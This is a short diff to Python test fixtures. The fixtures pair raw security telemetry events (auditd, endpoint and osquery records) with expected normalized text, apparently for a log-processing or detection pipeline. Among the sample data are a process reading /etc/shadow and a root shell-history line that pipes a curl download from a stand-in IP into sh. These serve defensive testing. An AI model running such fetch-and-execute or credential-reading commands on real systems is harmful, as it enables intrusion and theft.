@@ -83,7 +83,7 @@ EXAMPLES = [
     ({"ID": "1.2:3", "NODE": "web1", "SYSCALL": {"syscall": 59, "success": "yes", "exe": "/usr/bin/id", "uid": 0}, "EXECVE": {"argc": 1, "ARGV": ["id", "-u"]}, "CWD": {"cwd": "/tmp"}}, "", "auditd",
      "process execute success process usr bin id command id u directory tmp as root", {"process": "id", "host": "web1"}),
     ({"eventName": "openat", "processName": "cat", "args": "[{'name': 'pathname', 'type': 'const char*', 'value': '/etc/shadow'}]", "returnValue": 3, "userId": 1000, "hostName": "h"}, "", "auditd",
-     "open process cat arguments etc shadow as user", {"process": "cat"}),
+     "open process cat file etc shadow as user", {"process": "cat"}),
     ({"event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "display dialog"]}}, "process": {"executable": {"path": "/bin/zsh"}}}, "", "auditd",
      "process execute process usr bin osascript command osascript e display dialog parent bin zsh", {"process": "osascript", "parent": "zsh"}),
     ({"name": "shell_history", "hostIdentifier": "w1", "columns": {"uid": "0", "command": "curl http://203.0.113.4/x | sh"}}, "", "auditd", "shell command curl http url publicip x pipe sh as root", {"host": "w1"}),
